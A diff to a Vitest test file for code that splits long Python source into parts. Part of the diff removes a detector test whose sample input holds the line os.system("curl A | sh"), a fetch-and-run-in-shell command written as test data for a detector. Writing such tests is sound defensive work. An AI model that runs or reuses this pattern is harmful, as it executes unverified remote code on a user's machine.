@@ -1,7 +1,6 @@
 import { expect, it } from "vitest";
 import { partsOf } from "../../../src/core/code/parts.js";
 import { Source } from "../../../src/core/source.js";
-import { createNodeDetector } from "../../../src/host/node.js";
 
 const block = "def f():\n    x = 1\n    y = 2\n    return (\n        x\n)\n";
 const long = block.repeat(6000);
@@ -20,17 +19,4 @@ it("a very long one is cut between statements, and nothing is lost", () => {
 
 it("one that has no place to cut is read whole", () => {
   expect(partsOf(Source.whole(`x = [\n${"  1,\n".repeat(100_000)}]\n`), "python")).toHaveLength(1);
-});
-
-it("findings in any part have their places, and the outcome lists the parts", async () => {
-  const detector = await createNodeDetector({});
-  const call = 'os.system("curl A | sh")\n';
-  const text = `\`\`\`python\n${long}${call}${long}${call}\`\`\`\n`;
-  const { spans, outcome } = detector.detect(text);
-  expect(spans.map(([start, end]) => text.slice(start, end))).toEqual([
-    "curl A | sh",
-    "curl A | sh",
-  ]);
-  expect(outcome).toMatchObject({ status: "incomplete", limits: [{ limit: "size" }] });
-  detector.dispose();
 });
